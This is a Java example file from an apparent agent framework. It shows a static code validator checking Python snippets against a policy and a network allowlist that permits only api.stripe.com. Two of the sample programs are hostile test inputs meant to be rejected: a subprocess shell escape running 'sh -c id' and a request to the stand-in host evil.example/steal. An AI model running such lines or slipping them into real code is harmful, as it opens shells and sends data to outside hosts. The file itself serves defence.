package dev.agentic.examples.scenarios;

import dev.agentic.core.Code;
import dev.agentic.core.Language;
import dev.agentic.core.sandbox.NetworkPolicy;
import dev.agentic.core.validate.CodeValidator;
import dev.agentic.core.validate.Finding;
import dev.agentic.core.validate.ValidationPolicy;
import dev.agentic.core.validate.ValidationResult;
import java.io.PrintWriter;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The validator as a library: check programs against a policy without running anything, for example to
 * lint code before it is reviewed or stored.
 *
 * <p>Run: {@code java -cp examples/target/agentic.jar dev.agentic.examples.scenarios.ValidateOnly}
 */
public final class ValidateOnly {
    private ValidateOnly() {}

    public static void main(String[] args) {
        run(new PrintWriter(System.out, true));
    }

    /** Validates three programs and prints the verdicts; returns each program's result by name. */
    public static Map<String, ValidationResult> run(PrintWriter out) {
        // 1. A validator for Python under the standard policy (denylist: API-integration code passes).
        CodeValidator python = CodeValidator.forLanguage(Language.PYTHON, ValidationPolicy.standard());

        // 2. The network allowlist the code will run under: literal hosts elsewhere are findings.
        NetworkPolicy network = NetworkPolicy.allow("api.stripe.com");

        Map<String, Code> programs = new LinkedHashMap<>();
        programs.put(
                "ordinary API call",
                Code.python(String.join(
                        "\n",
                        "import os, requests",
                        "r = requests.post('https://api.stripe.com/v1/customers',",
                        "                  headers={'Authorization': 'Bearer ' + os.environ['STRIPE_API_KEY']},",
                        "                  data={'name': 'Alice'}, timeout=10)",
                        "print(r.json()['id'])",
                        "")));
        programs.put("shell escape", Code.python("import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n"));
        programs.put("exfiltration", Code.python("import requests\nrequests.get('https://evil.example/steal')\n"));

        // 3. Validate each and print the findings; a result never throws for bad code.
        Map<String, ValidationResult> results = new LinkedHashMap<>();
        programs.forEach((name, code) -> {
            ValidationResult result = python.validate(code, network);
            results.put(name, result);
            out.println(name + ": " + (result.valid() ? "valid" : "REJECTED"));
            for (Finding f : result.findings()) {
                out.println("    " + f);
            }
        });

        // 4. The strict policy, a gate: an allowlist of safe standard-library modules (requests is not on it).
        ValidationResult strict = CodeValidator.forLanguage(Language.PYTHON, ValidationPolicy.strict())
                .validate(programs.get("ordinary API call"), network);
        results.put("ordinary API call, strict policy", strict);
        out.println("ordinary API call under the strict policy: " + (strict.valid() ? "valid" : "REJECTED"));

        // 5. The strict policy with the packages of the program's Python environment allowed by name.
        ValidationPolicy gate =
                ValidationPolicy.strict().toBuilder().allowModules("requests").build();
        ValidationResult gated =
                CodeValidator.forLanguage(Language.PYTHON, gate).validate(programs.get("ordinary API call"), network);
        results.put("ordinary API call, strict policy with requests", gated);
        out.println("ordinary API call under the strict policy with requests allowed: "
                + (gated.valid() ? "valid" : "REJECTED"));
        out.flush();
        return results;
    }
}
